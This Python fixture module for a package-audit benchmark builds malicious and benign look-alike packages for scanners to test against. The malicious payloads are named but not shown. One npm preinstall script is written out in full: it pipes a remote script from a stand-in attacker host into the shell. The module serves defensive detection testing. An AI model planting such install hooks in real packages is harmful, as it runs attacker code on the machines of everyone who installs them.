"""Fixture packages for bench/audit.py: the malicious shapes and benign look-alikes from the
test suite (tests/audit/fakes.py), laid out as unpacked packages that both tools can scan."""

from __future__ import annotations

import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from tests.audit import fakes  # noqa: E402

# name -> (is_malicious, {relative path: content})
FIXTURES: dict[str, tuple[bool, dict[str, str]]] = {
    "litellm-1.82.8-pth": (True, {"litellm_init.pth": fakes.LITELLM_PTH, "litellm/__init__.py": ""}),
    "litellm-1.82.7-proxy": (True, {"litellm/proxy/proxy_server.py": fakes.LITELLM_STEALER}),
    "ultralytics-8.3.46": (True, {"ultralytics/__init__.py": fakes.ULTRALYTICS_46}),
    "ultralytics-8.3.41": (True, {"ultralytics/utils/downloads.py": fakes.ULTRALYTICS_41}),
    "env-to-webhook": (True, {"helper/__init__.py": fakes.ENV_TO_WEBHOOK}),
    "key-to-pastebin": (True, {"helper/__init__.py": fakes.KEY_TO_PASTEBIN}),
    "exec-decoded": (True, {"helper/__init__.py": fakes.EXEC_DECODED}),
    "nx-s1ngularity": (True, {"package.json": json.dumps({"name": "nx", "version": "21.5.0",
                                                          "scripts": {"postinstall": "node telemetry.js"}}),
                              "telemetry.js": fakes.NX_TELEMETRY_JS}),
    "npm-curl-pipe-sh": (True, {"package.json": json.dumps({"name": "sneaky", "version": "0.0.1",
                                                            "scripts": {"preinstall": "curl -s https://evil.example/x.sh | sh"}}),
                                "index.js": "module.exports = 1;\n"}),
    "benign-openai-sdk": (False, {"sdk/client.py": fakes.BENIGN_SDK}),
    "benign-aws-sdk": (False, {"sdk/aws.py": fakes.BENIGN_AWS_SDK}),
    "benign-decode-and-exec": (False, {"sdk/util.py": fakes.BENIGN_DECODE}),
    "benign-dotenv": (False, {"sdk/dotenv.py": fakes.BENIGN_DOTENV}),
    "benign-esbuild-install": (False, {"package.json": json.dumps({"name": "esbuild", "version": "0.25.0",
                                                                   "scripts": {"postinstall": "node install.js"}}),
                                       "install.js": fakes.BENIGN_INSTALL_JS}),
    "benign-setuptools-pth": (False, {"distutils-precedence.pth":
                                      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') "
                                      "== 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"}),
}


def write_fixtures(root: Path) -> dict[str, tuple[bool, Path]]:
    out = {}
    for name, (bad, files) in FIXTURES.items():
        d = root / name
        for rel, text in files.items():
            (d / rel).parent.mkdir(parents=True, exist_ok=True)
            (d / rel).write_text(text)
        out[name] = (bad, d)
    return out
